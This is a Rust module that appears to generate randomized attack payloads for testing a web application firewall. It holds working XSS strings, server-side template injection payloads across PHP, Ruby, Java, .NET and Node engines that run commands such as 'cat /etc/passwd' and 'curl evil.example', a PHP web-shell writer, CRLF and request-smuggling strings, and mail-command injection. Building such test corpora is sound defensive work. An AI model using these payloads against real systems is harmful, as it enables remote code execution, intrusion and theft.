//! Attacks on what reads markup, in other shapes than markup.rs: rarer elements and handlers, respelled scripts,
//! template engines of other languages.

use medward_waf::AttackClass;

use super::super::attack::{AttackGrammar, payload};
use super::super::codec;
use super::super::encode::Encoding;
use super::super::place::Place;
use super::super::rng::Rng;

const HTML: &[Encoding] = &[
    Encoding::Plain,
    Encoding::Percent,
    Encoding::DoublePercent,
    Encoding::PercentU,
    Encoding::HtmlEntity,
    Encoding::Base64,
    Encoding::JsonEscape,
    Encoding::JsEscape,
    Encoding::Overlong,
    Encoding::Utf7,
    Encoding::Case,
    Encoding::Whitespace,
    Encoding::Combined,
];
const PLAIN: &[Encoding] =
    &[Encoding::Plain, Encoding::Percent, Encoding::DoublePercent, Encoding::JsonEscape, Encoding::Base64];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    payload("xss-rare-elements", AttackClass::Xss, 100, rare, Place::PARAMETERS, HTML),
    payload("xss-respelled-script", AttackClass::Xss, 90, respelled, Place::PARAMETERS, HTML),
    payload("xss-mutation", AttackClass::Xss, 70, mutation, Place::PARAMETERS, HTML),
    payload("xss-client-templates", AttackClass::Xss, 40, client_template, Place::INPUTS, PLAIN),
    payload("xss-foreign-urls", AttackClass::Xss, 50, foreign_url, Place::PARAMETERS, HTML),
    payload("ssti-php-ruby", AttackClass::Ssti, 60, ssti_php_ruby, Place::PARAMETERS, PLAIN),
    payload("ssti-velocity-thymeleaf", AttackClass::Ssti, 50, ssti_velocity, Place::PARAMETERS, PLAIN),
    payload(
        "crlf-respelled",
        AttackClass::Crlf,
        35,
        crlf,
        &[Place::Query, Place::Path, Place::Form],
        &[Encoding::Plain, Encoding::Percent, Encoding::DoublePercent],
    ),
    payload(
        "mail-smtp-commands",
        AttackClass::Mail,
        30,
        smtp,
        &[Place::Form, Place::Query, Place::Json, Place::Xml],
        &[Encoding::Plain, Encoding::Percent, Encoding::JsonEscape],
    ),
];

/// A call that needs few of the characters a filter strips.
fn call(rng: &mut Rng) -> String {
    let n = rng.between(1, 9999);
    match rng.below(9) {
        0 => format!("alert`{n}`"),
        1 => format!("top['al'+'ert']({n})"),
        2 => format!("window[/al/.source+/ert/.source]({n})"),
        3 => format!("self?.alert?.({n})"),
        4 => format!("[{n}].map(alert)"),
        5 => format!("Function('ale'+'rt({n})')()"),
        6 => format!("setTimeout('ale'+'rt({n})')"),
        7 => format!("import('//evil.example/{n}.js')"),
        _ => format!("(alert)({n})"),
    }
}

fn rare(rng: &mut Rng) -> Vec<u8> {
    let code = call(rng);
    let word = rng.letters(3);
    match rng.below(16) {
        0 => format!("<details open ontoggle={code}>{word}"),
        1 => format!(
            "<style>@keyframes {word}{{}}</style><b style=\"animation-name:{word}\" onanimationstart=\"{code}\"></b>"
        ),
        2 => format!("<svg><animate onbegin={code} attributeName=x dur=1s>"),
        3 => format!("<math><maction actiontype=statusline xlink:href=\"javascript:{code}\">{word}</maction></math>"),
        4 => format!("<audio src onloadstart={code}>"),
        5 => format!("<x contenteditable onbeforeinput={code}>{word}"),
        6 => format!("<input type=hidden popover id={word} onbeforetoggle={code}><button popovertarget={word}>x"),
        7 => format!("<dialog open onclose={code}><form method=dialog><button>{word}</form>"),
        8 => format!("<object onerror={code} data={word}>"),
        9 => format!("<svg><set onend={code} attributeName=x dur=1s></svg>"),
        10 => format!("<textarea autofocus onfocusin={code}>{word}</textarea>"),
        11 => format!("<body onpageshow={code}>{word}"),
        12 => format!("<div style=\"transition:1s\" tabindex=1 ontransitionend={code} id={word}>"),
        13 => format!("<iframe srcdoc=\"&lt;img src=x onerror={}&gt;\"></iframe>", code.replace('"', "&quot;")),
        14 => format!("<keygen autofocus onpointerrawupdate={code}>{word}"),
        _ => format!("<isindex type=image src={word} onerror={code}>"),
    }
    .into_bytes()
}

fn respelled(rng: &mut Rng) -> Vec<u8> {
    let n = rng.between(1, 999);
    let codes = format!("alert({n})").bytes().map(|byte| byte.to_string()).collect::<Vec<_>>().join(",");
    let octal = "alert".bytes().fold(String::new(), |all, byte| all + &format!("\\{byte:o}"));
    match rng.below(10) {
        0 => format!("<script>eval(String.fromCharCode({codes}))</script>"),
        1 => format!("<script>\\u0061\\u006cert({n})</script>"),
        2 => format!("<img/src/onerror=\\u0061lert({n})>"),
        3 => format!("<script>[]['\\146\\151\\154\\164\\145\\162']['constructor']('{octal}({n})')()</script>"),
        4 => format!("<svg/onload=&#97&#108&#101&#114&#116({n})>"),
        5 => format!("<script>throw onerror=alert,{n}</script>"),
        6 => format!("<script>({{}})[`constr`+`uctor`][`constr`+`uctor`]`al\\x65rt({n})```</script>"),
        7 => format!("<img src=x onerror=\"eval('\\x61lert\\x28{n}\\x29')\">"),
        8 => format!("<script>var a=location.hash.slice(1)||'{n}';new Function(unescape('%61lert('+a+')'))()</script>"),
        _ => format!("<script>onerror=alert;throw/{n}/</script>"),
    }
    .into_bytes()
}

/// What sanitizers and parsers read differently.
fn mutation(rng: &mut Rng) -> Vec<u8> {
    let code = call(rng).replace('"', "'");
    let word = rng.letters(3);
    match rng.below(11) {
        0 => format!("<noscript><p title=\"</noscript><img src=x onerror={code}>\">{word}"),
        1 => format!("<svg></p><style><a id=\"</style><img src=1 onerror={code}>\">{word}"),
        2 => format!("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={code}&gt;\">"),
        3 => format!("<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={code} src>\">{word}"),
        4 => format!("<a title=\"{word}\"/**/onmouseover=\"{code}\">"),
        5 => format!("<img \"\"\"><script>{code}</script>\">"),
        6 => format!("<!--><script>{code}</script>--><b>{word}</b>"),
        7 => format!("<![CDATA[><script>{code}</script>]]>{word}"),
        8 => format!("<xmp><img alt=\"</xmp><img src=xx onerror={code}//\">"),
        9 => format!("\"'--></style></script><svg/onload={code}>{word}"),
        _ => format!("<title><a href=\"</title><img/src='{word}'onerror={code}>\">"),
    }
    .into_bytes()
}

/// Expressions that a framework evaluates in the page.
fn client_template(rng: &mut Rng) -> Vec<u8> {
    let n = rng.between(1, 9999);
    match rng.below(7) {
        0 => format!("{{{{constructor.constructor('alert({n})')()}}}}"),
        1 => format!("{{{{$on.constructor('alert({n})')()}}}}"),
        2 => format!("{{{{_openBlock.constructor('alert({n})')()}}}}"),
        3 => format!(
            "<div ng-app ng-csp><input ng-focus=$event.composedPath()|orderBy:'(z=alert)({n})' autofocus></div>"
        ),
        4 => format!("{{{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert({n})')}}}}"),
        5 => format!("<div v-html=\"''.constructor.constructor('alert({n})')()\">x</div>"),
        _ => format!("<p x-data x-init=\"alert({n})\">x</p>"),
    }
    .into_bytes()
}

fn foreign_url(rng: &mut Rng) -> Vec<u8> {
    let code = call(rng).replace('"', "'");
    let word = rng.letters(3);
    match rng.below(9) {
        0 => format!("<a href=\"java&Tab;script:{code}\">{word}</a>"),
        1 => format!("<a href=\"javascript&colon;{code}\">{word}</a>"),
        2 => format!("<a href=\"\x01javascript:{code}\">{word}</a>"),
        3 => format!("<svg><a xlink:href=\"javascript:{code}\"><text y=20>{word}</text></a></svg>"),
        4 => format!(
            "<iframe src=\"data:text/html;charset=utf-8;base64,{}\">",
            codec::base64(format!("<svg/onload=parent.{code}>"))
        ),
        5 => format!("<base href=\"javascript:/a/-{code}///\"><a href=../{word}/#>x</a>"),
        6 => format!("<button formaction=\"jav\nascript:{code}\">{word}"),
        7 => format!("<link rel=import href=\"data:text/html,&lt;script&gt;{code}&lt;/script&gt;\">{word}"),
        _ => format!(
            "<svg><use href=\"data:image/svg+xml;base64,{}#x\"/></svg>",
            codec::base64(format!(
                "<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{}'/></svg>",
                code.replace('\'', "\"")
            ))
        ),
    }
    .into_bytes()
}

fn ssti_php_ruby(rng: &mut Rng) -> Vec<u8> {
    let (n, m, word) = (rng.between(2, 999), rng.between(2, 999), rng.letters(3));
    let command = rng.pick(&["id", "whoami", "uname -a", "cat /etc/passwd"]);
    match rng.below(13) {
        0 => format!("{{{{_self.env.registerUndefinedFilterCallback('exec')}}}}{{{{_self.env.getFilter('{command}')}}}}{n}"),
        1 => format!("{{{{['{command}']|filter('system')}}}}{n}"),
        2 => format!("{{{{['{command}','']|sort('passthru')|join}}}}{n}"),
        3 => format!("{{php}}system('{command}');{{/php}}{n}"),
        4 => format!("{{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,'<?php passthru($_GET[{word}]); ?>',self::clearConfig())}}"),
        5 => format!("{{system('{command}')}}{n}"),
        6 => format!("<%= {n}*{m} %>"),
        7 => format!("<%= system('{command}') %>{n}"),
        8 => format!("<%= `{command}` %>{word}"),
        9 => format!("#{{IO.popen('{command}').read}}{n}"),
        10 => format!("<%= File.open('/etc/{word}').read %>"),
        11 => format!("{{{{{n}*{m}|raw}}}}{{{{dump(app)}}}}"),
        _ => format!("{{if phpinfo()}}{n}{{/if}}"),
    }
    .into_bytes()
}

fn ssti_velocity(rng: &mut Rng) -> Vec<u8> {
    let (n, m, word) = (rng.between(2, 999), rng.between(2, 999), rng.letters(3));
    let command = rng.pick(&["id", "whoami", "calc.exe", "curl evil.example"]);
    match rng.below(11) {
        0 => format!("#set(${word}=$class.inspect('java.lang.Runtime').type.getRuntime().exec('{command}'))${word}.waitFor()"),
        1 => format!("#set(${word}='')#set($rt=${word}.class.forName('java.lang.Runtime'))$rt.getMethod('getRuntime',null).invoke(null,null).exec('{command}')"),
        2 => format!("__${{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('{command}').getInputStream()).next()}}__::.{word}"),
        3 => format!("*{{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('{command}').getInputStream())}}{n}"),
        4 => format!("[[${{{n}*{m}}}]]"),
        5 => format!("@({n}*{m})"),
        6 => format!("@{{System.Diagnostics.Process.Start(\"cmd.exe\",\"/c {command}\");}}{word}"),
        7 => format!("{{{{#with \"s\" as |{word}|}}}}{{{{#with (lookup {word}.sub \"constructor\")}}}}{{{{this.pop}}}}{{{{this.push \"return require('child_process').execSync('{command}');\"}}}}{{{{/with}}}}{{{{/with}}}}"),
        8 => format!("#{{function(){{localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('{command}')}}()}}{n}"),
        9 => format!("{{{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('{command}')\")()}}}}{n}"),
        _ => format!("${{__import__('os').popen('{command}').read()}}<%import os%>{n}"),
    }
    .into_bytes()
}

fn crlf(rng: &mut Rng) -> Vec<u8> {
    let (word, n) = (rng.letters(4), rng.below(9999));
    match rng.below(6) {
        // Characters whose low byte is CR and LF: cut off by servers that keep eight bits.
        0 => format!("{word}\u{560d}\u{560a}Set-Cookie:{word}={n}"),
        1 => format!("//{word}.evil.example/%2f%2e%2e\r\nRefresh: 0;url=//{word}.evil.example"),
        2 => format!("{n}\r\n\tx\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /{word} HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
        3 => format!("{word}\rX-Injected:{n}\rX-Cache: hit"),
        4 => format!("{word} HTTP/1.1\r\nHost: 127.0.0.1:6379\r\n\r\nSET {word} {n}\r\n"),
        _ => format!("?{word}=\r\nContent-Security-Policy: script-src 'unsafe-inline'; report-uri /{n}"),
    }
    .into_bytes()
}

/// Commands to the mail server behind a form.
fn smtp(rng: &mut Rng) -> Vec<u8> {
    let (word, n) = (rng.letters(5), rng.below(999));
    match rng.below(5) {
        0 => format!("{word}@mail.example>\r\nRCPT TO:<{word}@evil.example"),
        1 => format!("x\r\n.\r\nMAIL FROM:<{word}@evil.example>\r\nRCPT TO:<a@b.example>\r\nDATA\r\nSubject: {n}\r\n\r\nhi\r\n.\r\n"),
        2 => format!("INBOX\"\r\nA{n} LIST \"\" \"*\"\r\nA{n} LOGOUT"),
        3 => format!("{n} BODY[HEADER]\r\nV10{n} CAPABILITY\r\nV101 FETCH {n}"),
        _ => format!("\"attacker\\\" -oQ/tmp/ -X/var/www/{word}.php  {n}\"@mail.example"),
    }
    .into_bytes()
}
